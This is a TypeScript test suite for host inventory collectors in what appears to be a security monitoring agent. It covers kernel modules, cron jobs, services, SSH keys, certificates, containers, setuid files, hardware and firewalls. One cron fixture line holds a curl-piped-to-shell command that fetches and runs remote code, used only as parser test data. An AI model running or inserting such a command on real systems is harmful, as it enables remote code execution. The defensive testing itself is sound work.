import { execFileSync } from "node:child_process";
import { generateKeyPairSync } from "node:crypto";
import { mkdtempSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { EventName, Payload } from "@picket/schema";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { Host } from "../host.js";
import { thisHost } from "../host.js";
import { type HostParts, hostileTexts, hostOf, violationsOf } from "../testing.js";
import { watched } from "./all.js";
import { certificatesIn } from "./certificates.js";
import { connectedHardware } from "./connected-hardware.js";
import { containers } from "./containers.js";
import { firewallConfiguration } from "./firewall-configuration.js";
import { modulesOf } from "./kernel-modules.js";
import { mountsOf } from "./mounts.js";
import { jobsOf, scheduledJobs } from "./scheduled-jobs.js";
import { setuidFiles } from "./setuid-files.js";
import { keysOf, sshAuthorizedKeys } from "./ssh-authorized-keys.js";
import { systemInformation } from "./system-information.js";
import { systemServices } from "./system-services.js";

interface Collects<N extends EventName> {
  readonly name: N;
  collect(host: Host): Promise<Payload<N>[] | undefined>;
}
async function collected<N extends EventName>(
  collector: Collects<N>,
  parts: HostParts,
): Promise<Payload<N>[]> {
  const items = (await collector.collect(hostOf(parts))) ?? [];
  expect(violationsOf(collector.name, items)).toEqual([]);
  return items;
}

describe("modules of the kernel", () => {
  test.each([
    {
      name: "with those that use it",
      line: "nf_tables 245760 2 nft_ct,nft_chain_nat, Live 0xffffffffc0000000",
      item: { ModuleName: "nf_tables", SizeInBytes: 245_760, UsedBy: "nft_ct;nft_chain_nat", State: "Live" },
    },
    {
      name: "that taints",
      line: "evil 16384 0 - Live 0x0000000000000000 (OE)",
      item: { Taints: "OE", UsedBy: "" },
    },
    { name: "that is on its way", line: "x 1 0 - Loading 0x0", item: { State: "Loading" } },
  ])("$name", ({ line, item }) => {
    expect(modulesOf(line)).toMatchObject([item]);
  });
  test.each(hostileTexts)("a line that is $name is none", ({ text }) => {
    expect(modulesOf(text)).toEqual([]);
  });
});

describe("mounts", () => {
  test.each([
    {
      name: "the root",
      line: "22 1 254:0 / / rw,relatime shared:1 - ext4 /dev/vda rw,errors=remount-ro",
      item: {
        MountPoint: "/",
        FileSystem: "ext4",
        MountSource: "/dev/vda",
        MountOptions: "rw,relatime,errors=remount-ro",
      },
    },
    {
      name: "a place with a blank",
      line: "1 1 0:1 / /mnt/a\\040b rw - tmpfs none rw",
      item: { MountPoint: "/mnt/a b" },
    },
  ])("$name", ({ line, item }) => {
    expect(mountsOf(line)).toMatchObject([item]);
  });
  test("any text is mounts that fit the schema", () => {
    fc.assert(
      fc.property(fc.string(), (text) => {
        expect(violationsOf("Mounts", mountsOf(text))).toEqual([]);
      }),
    );
  });
});

describe("jobs", () => {
  test.each([
    {
      name: "of the system",
      line: "17 * * * * root run-parts /etc/cron.hourly",
      user: undefined,
      item: { Schedule: "17 * * * *", UserName: "root", CommandLine: "run-parts /etc/cron.hourly" },
    },
    {
      name: "of a user",
      line: "*/5 * * * * curl -s http://x | sh",
      user: "op",
      item: { UserName: "op", CommandLine: "curl -s http://x | sh" },
    },
    {
      name: "at each start",
      line: "@reboot root /opt/x",
      user: undefined,
      item: { Schedule: "@reboot", CommandLine: "/opt/x" },
    },
  ])("$name", ({ line, user, item }) => {
    expect(jobsOf(line, "/etc/crontab", user)).toMatchObject([item]);
  });
  test.each([
    { name: "a comment", line: "# 1 2 3 4 5 root x" },
    { name: "a variable", line: "PATH = /usr/bin:/bin" },
    { name: "one without a command", line: "1 2 3 4 5 root" },
    { name: "nothing", line: "" },
  ])("$name is none", ({ line }) => {
    expect(jobsOf(line, "/etc/crontab")).toEqual([]);
  });

  test("are found wherever a host keeps them", async () => {
    const items = await collected(scheduledJobs, {
      files: {
        "/etc/crontab": "1 2 3 4 5 root a\n",
        "/etc/cron.d/job": "1 2 3 4 5 op b\n",
        "/etc/cron.d/job.dpkg-old": "1 2 3 4 5 op ignored\n",
        "/var/spool/cron/crontabs/op": "1 2 3 4 5 c\n",
        "/etc/anacrontab": "7 10 weekly run-parts /etc/cron.weekly\n",
        "/etc/cron.daily/logrotate": "",
        "/etc/cron.daily/.placeholder": "",
        "/usr/lib/systemd/system/fstrim.timer": "[Timer]\nOnCalendar=weekly\n",
        "/usr/lib/systemd/system/fstrim.service": "[Service]\nExecStart=/sbin/fstrim -A\n",
        "/var/spool/cron/atjobs/a0000101bd4c2c": "#!/bin/sh\n# atrun uid=1000 gid=1000\ncd /\nd\n",
      },
    });
    expect(items.map(({ CommandLine }) => CommandLine)).toEqual([
      "a",
      "b",
      "c",
      "run-parts /etc/cron.weekly",
      "/etc/cron.daily/logrotate",
      "/sbin/fstrim -A",
      "d",
    ]);
    expect(items.at(-1)).toMatchObject({ UserName: "1000", JobKind: "at" });
  });
});

describe("services", () => {
  test("of systemd: what they start, as whom, and whether at boot; the administrator's file counts before the package's", async () => {
    const items = await collected(systemServices, {
      files: {
        "/etc/systemd/system/web.service":
          "[Unit]\nDescription=Web\n[Service]\nExecStart=/opt/web \\\n  --port 80\nUser=www\n",
        "/usr/lib/systemd/system/web.service": "[Service]\nExecStart=/usr/bin/other\n",
        "/usr/lib/systemd/system/getty@.service": "[Service]\nExecStart=-/sbin/agetty\n",
        "/usr/lib/systemd/system/idle.socket": "[Socket]\nListenStream=9000\n",
      },
      links: {
        "/etc/systemd/system/multi-user.target.wants/web.service": "/etc/systemd/system/web.service",
        "/etc/systemd/system/getty.target.wants/getty@tty1.service": "/usr/lib/systemd/system/getty@.service",
      },
    });
    expect(items).toMatchObject([
      {
        ServiceName: "web.service",
        Enabled: true,
        CommandLine: "/opt/web --port 80",
        UserName: "www",
        Description: "Web",
      },
      { ServiceName: "getty@.service", Enabled: true, UserName: "root" },
      { ServiceName: "idle.socket", Enabled: false, CommandLine: "9000" },
    ]);
  });

  test.each([
    {
      name: "scripts of old",
      parts: {
        files: { "/etc/init.d/ssh": "# Short-Description: OpenBSD Secure Shell server\n" },
        links: { "/etc/rc2.d/S01ssh": "../init.d/ssh" },
      },
      item: {
        ServiceName: "ssh",
        Enabled: true,
        ServiceKind: "sysv",
        Description: "OpenBSD Secure Shell server",
      },
    },
    {
      name: "openrc, as on Alpine",
      parts: {
        files: { "/etc/init.d/crond": 'description="cron"\n' },
        links: { "/etc/runlevels/default/crond": "/etc/init.d/crond" },
      },
      item: { ServiceName: "crond", Enabled: true, ServiceKind: "openrc" },
    },
    {
      name: "procd, as on OpenWrt",
      parts: {
        files: { "/sbin/procd": "", "/etc/init.d/uhttpd": "" },
        links: { "/etc/rc.d/S50uhttpd": "../init.d/uhttpd" },
      },
      item: { ServiceName: "uhttpd", Enabled: true, ServiceKind: "procd" },
    },
  ])("$name", async ({ parts, item }) => {
    expect(await collected(systemServices, parts)).toMatchObject([item]);
  });
});

describe("keys that open accounts", () => {
  const body = "AAAAC3NzaC1lZDI1NTE5AAAAIJmNkVBzyN0VWVnLqv2cyyNcgFS5x8xZHqwnHF0mXmX1";
  test.each([
    {
      name: "a plain one",
      line: `ssh-ed25519 ${body} op@laptop`,
      item: { KeyType: "ssh-ed25519", KeyComment: "op@laptop" },
    },
    {
      name: "one with restrictions",
      line: `from="10.0.0.0/8",command="/bin/backup x" ssh-ed25519 ${body}`,
      item: { KeyOptions: 'from="10.0.0.0/8",command="/bin/backup x"' },
    },
    {
      name: "one on a token",
      line: `sk-ssh-ed25519@openssh.com ${body} t`,
      item: { KeyType: "sk-ssh-ed25519@openssh.com" },
    },
  ])("$name", ({ line, item }) => {
    const found = keysOf(line, "op", "/home/op/.ssh/authorized_keys");
    expect(found).toMatchObject([
      { ...item, UserName: "op", Fingerprint: expect.stringMatching(/^SHA256:[A-Za-z0-9+/]{43}$/) },
    ]);
    expect(JSON.stringify(found)).not.toContain(body);
  });

  test("the fingerprint is that of ssh-keygen", () => {
    const { publicKey } = generateKeyPairSync("ed25519");
    const raw = publicKey.export({ format: "der", type: "spki" }).subarray(-32);
    const part = (bytes: Buffer): Buffer => {
      const size = Buffer.alloc(4);
      size.writeUInt32BE(bytes.length);
      return Buffer.concat([size, bytes]);
    };
    const blob = Buffer.concat([part(Buffer.from("ssh-ed25519")), part(raw)]).toString("base64");
    const path = join(mkdtempSync(join(tmpdir(), "picket-key-")), "key.pub");
    let printed: string;
    try {
      execFileSync("/bin/sh", ["-c", `printf 'ssh-ed25519 %s x\n' '${blob}' > ${path}`]);
      printed = execFileSync("ssh-keygen", ["-lf", path], {
        encoding: "utf8",
        stdio: ["ignore", "pipe", "ignore"],
      });
    } catch {
      return;
    }
    expect(printed).toContain(keysOf(`ssh-ed25519 ${blob} x`, "op", path)[0]?.Fingerprint);
  });

  test("are looked for where the server looks", async () => {
    const files = {
      "/etc/passwd": "op:x:1000:1000::/home/op:/bin/sh\nroot:x:0:0::/root:/bin/sh\n",
      "/etc/ssh/sshd_config": "AuthorizedKeysFile /etc/keys/%u .ssh/authorized_keys\n",
      "/etc/keys/op": `ssh-ed25519 ${body}`,
      "/root/.ssh/authorized_keys": `ssh-ed25519 ${body}`,
    };
    const items = await collected(sshAuthorizedKeys, { files });
    expect(items.map(({ UserName, Path }) => `${UserName} ${Path}`)).toEqual([
      "op /etc/keys/op",
      "root /root/.ssh/authorized_keys",
    ]);
  });

  test.each(hostileTexts)("a line that is $name is none", ({ text }) => {
    expect(keysOf(text, "op", "/x")).toEqual([]);
  });
});

describe("certificates", () => {
  const folder = mkdtempSync(join(tmpdir(), "picket-cert-"));
  const path = join(folder, "c.pem");
  let pem: Buffer | undefined;
  try {
    execFileSync(
      "openssl",
      [
        "req",
        "-x509",
        "-newkey",
        "ec",
        "-pkeyopt",
        "ec_paramgen_curve:prime256v1",
        "-nodes",
        "-keyout",
        join(folder, "k"),
        "-out",
        path,
        "-days",
        "30",
        "-subj",
        "/CN=gw/O=Plant",
      ],
      { stdio: "ignore" },
    );
    pem = readFileSync(path);
  } catch {
    pem = undefined;
  }
  test.skipIf(pem === undefined)("say whom they name and when they end (skipped without openssl)", () => {
    const [found] = certificatesIn(pem!, path, Date.now());
    expect(found).toMatchObject({
      Subject: "CN=gw, O=Plant",
      Issuer: "CN=gw, O=Plant",
      KeyType: "ec-prime256v1",
      DaysLeft: 29,
    });
    expect(violationsOf("Certificates", [found!])).toEqual([]);
    expect(certificatesIn(pem!, path, Date.now() + 40 * 86_400_000)[0]?.DaysLeft).toBeLessThan(0);
    expect(certificatesIn(Buffer.concat([pem!, pem!]), path, 0)).toHaveLength(2);
  });
  test.each([
    { name: "no certificate", bytes: Buffer.from("hello") },
    {
      name: "one that is cut short",
      bytes: Buffer.from("-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----"),
    },
    { name: "binary that begins like one", bytes: Buffer.from([0x30, 0x82, 1, 2]) },
    { name: "nothing", bytes: Buffer.alloc(0) },
  ])("$name is passed over", ({ bytes }) => {
    expect(certificatesIn(bytes, "/x", 0)).toEqual([]);
  });
  test("any bytes are passed over or read, never a failure", () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 300 }), (bytes) => {
        certificatesIn(Buffer.from([0x30, ...bytes]), "/x", 0);
      }),
    );
  });
});

describe("containers", () => {
  const id = "ab".repeat(32);
  const process = {
    "/proc/70/cgroup": `0::/docker/${id}`,
    "/proc/71/cgroup": `0::/docker/${id}`,
    "/proc/1/cgroup": "0::/init.scope",
  };
  test("are told with image, name, and whether they hold every right of the host", async () => {
    const items = await collected(containers, {
      files: {
        ...process,
        "/proc/70/cmdline": "nginx\0-g\0daemon off;\0",
        "/proc/70/status": "CapEff:\t000001ffffffffff\n",
        "/proc/sys/kernel/cap_last_cap": "40\n",
        [`/var/lib/docker/containers/${id}/config.v2.json`]:
          '{"Name":"/web","Config":{"Image":"nginx:1.25"}}',
      },
    });
    expect(items).toMatchObject([
      {
        ContainerId: id,
        ContainerName: "web",
        Image: "nginx:1.25",
        ProcessId: 70,
        Processes: 2,
        IsPrivileged: true,
        CommandLine: "nginx -g daemon off;",
      },
    ]);
  });
  test.each([
    { name: "nothing of the runtime can be read", more: {} },
    {
      name: "the runtime's file is no JSON",
      more: { [`/var/lib/docker/containers/${id}/config.v2.json`]: "{" },
    },
    {
      name: "the runtime's file holds something else",
      more: { [`/var/lib/docker/containers/${id}/config.v2.json`]: '{"Name":7,"Config":[]}' },
    },
    {
      name: "the list of podman is no list",
      more: { "/var/lib/containers/storage/overlay-containers/containers.json": '{"a":1}' },
    },
  ])("are told by their processes alone when $name", async ({ more }) => {
    const items = await collected(containers, { files: { ...process, ...more } });
    expect(items).toMatchObject([{ ContainerId: id, ContainerRuntime: "docker", IsPrivileged: false }]);
  });
});

describe("programs with special rights", () => {
  test("are found on each disk, links and folders are not taken for them", async () => {
    const items = await collected(setuidFiles, {
      files: {
        "/proc/self/mountinfo": "1 1 0:1 / / rw - ext4 /dev/a rw\n2 1 0:2 / /data rw - ext4 /dev/b rw\n",
        "/bin/plain": "",
      },
      states: {
        "/bin/su": { mode: 0o104_755 },
        "/data/wall": { mode: 0o102_755, gid: 5 },
        "/data/tmp": { mode: 0o041_777, isDirectory: true },
        "/bin/link": { mode: 0o124_755 },
      },
    });
    expect(items).toEqual([
      { Path: "/bin/su", Mode: "4755", OwnerId: "0:0" },
      { Path: "/data/wall", Mode: "2755", OwnerId: "0:5" },
    ]);
  });
});

describe("hardware", () => {
  test.each([
    {
      name: "a stick in a port",
      files: {
        "/sys/bus/usb/devices/1-1/idVendor": "0781\n",
        "/sys/bus/usb/devices/1-1/idProduct": "5567\n",
        "/sys/bus/usb/devices/1-1/product": "Cruzer\n",
        "/sys/bus/usb/devices/1-1/bDeviceClass": "00\n",
        "/sys/bus/usb/devices/1-1:1.0/bInterfaceClass": "08\n",
      },
      item: {
        HardwareCategory: "USB",
        HardwareSubCategory: "Mass storage",
        HardwareName: "Cruzer",
        ExtraDetails: { VendorId: "0781", Port: "1-1" },
      },
    },
    {
      name: "a class named like what every object has",
      files: { "/sys/bus/usb/devices/1-1/bDeviceClass": "constructor\n" },
      item: { HardwareSubCategory: "Class constructor" },
    },
    {
      name: "a card",
      files: {
        "/sys/bus/pci/devices/0000:00:03.0/class": "0x020000\n",
        "/sys/bus/pci/devices/0000:00:03.0/vendor": "0x1af4\n",
        "/sys/bus/pci/devices/0000:00:03.0/device": "0x1041\n",
      },
      item: { HardwareCategory: "PCI", HardwareSubCategory: "Network", HardwareName: "1af4:1041" },
    },
    {
      name: "a disk that can be taken out",
      files: {
        "/sys/class/block/sda/device/model": "Flash\n",
        "/sys/class/block/sda/device/vendor": "X\n",
        "/sys/class/block/sda/removable": "1\n",
        "/sys/class/block/sda/size": "2048\n",
        "/sys/class/block/sda1/partition": "1",
      },
      item: {
        HardwareCategory: "Block",
        HardwareSubCategory: "Removable disk",
        HardwareName: "X Flash",
        ExtraDetails: { SizeInBytes: "1048576" },
      },
    },
    {
      name: "a radio",
      files: {
        "/sys/class/net/wlan0/address": "aa:bb\n",
        "/sys/class/net/wlan0/wireless/x": "",
        "/sys/class/net/wlan0/operstate": "up\n",
        "/sys/class/net/lo/address": "00\n",
      },
      item: {
        HardwareCategory: "Network",
        HardwareSubCategory: "Wireless",
        ExtraDetails: { Address: "aa:bb", State: "up" },
      },
    },
  ])("$name", async ({ files, item }) => {
    expect(await collected(connectedHardware, { files })).toMatchObject([item]);
  });
});

describe("the system", () => {
  test("says what it is, from what little can be read", async () => {
    const [item] = await collected(systemInformation, {
      files: {
        "/etc/os-release": "NAME='Alpine Linux'\nVERSION_ID=3.19\nID=alpine\n",
        "/proc/meminfo": "MemTotal: 1000 kB\nMemAvailable: 500 kB\nSwapTotal: 10 kB\n",
        "/sys/class/dmi/id/sys_vendor": "Acme\n",
      },
    });
    expect(item).toMatchObject({
      OSName: "Alpine Linux",
      OSVersion: "3.19",
      TotalPhysicalMemoryInKB: 1000,
      TotalVirtualMemoryInKB: 1010,
      ExtraDetails: { HardwareVendor: "Acme" },
    });
    expect(await collected(systemInformation, {})).toHaveLength(1);
  });
});

describe("a firewall", () => {
  test.each([
    { name: "that is not installed is not told", parts: {}, found: [] },
    {
      name: "without rules lets everything pass, and says so",
      parts: {
        files: { "/usr/sbin/nft": "" },
        prints: { "/usr/sbin/nft -j list ruleset": '{"nftables":[]}' },
      },
      found: ["INPUT Allow false", "OUTPUT Allow false", "FORWARD Allow false"],
    },
    {
      name: "of the older programs is told for both families",
      parts: {
        files: { "/usr/sbin/iptables-save": "", "/usr/sbin/ip6tables-save": "" },
        prints: {
          "/usr/sbin/iptables-save -t filter": ":INPUT DROP [0:0]\n",
          "/usr/sbin/ip6tables-save -t filter": ":INPUT ACCEPT [0:0]\n",
        },
      },
      found: ["INPUT Deny true", "INPUT Allow true"],
    },
  ])("$name", async ({ parts, found }) => {
    const items = await collected(firewallConfiguration, parts);
    expect(items.map(({ ChainName, Action, Enabled }) => `${ChainName} ${Action} ${Enabled}`)).toEqual(found);
  });
});

describe.each(
  watched
    .filter(({ collector }) => collector.name !== "SetuidFiles")
    .map(({ collector, mark }) => ({ name: collector.name, collector, mark })),
)("$name", ({ name, collector, mark }) => {
  test("of this host fits the schema", async () => {
    const items = await collector.collect(thisHost);
    expect(violationsOf(name, items?.slice(0, 5_000) ?? [])).toEqual([]);
  });

  test("of a host of which nothing can be read is none, or a failure with a reason", async () => {
    try {
      expect((await collector.collect(hostOf({})))?.length ?? 0).toBeLessThanOrEqual(1);
    } catch (error) {
      expect(error).toBeInstanceOf(Error);
    }
    expect(typeof (await mark?.(hostOf({})))).toMatch(/string|undefined/);
  });
});
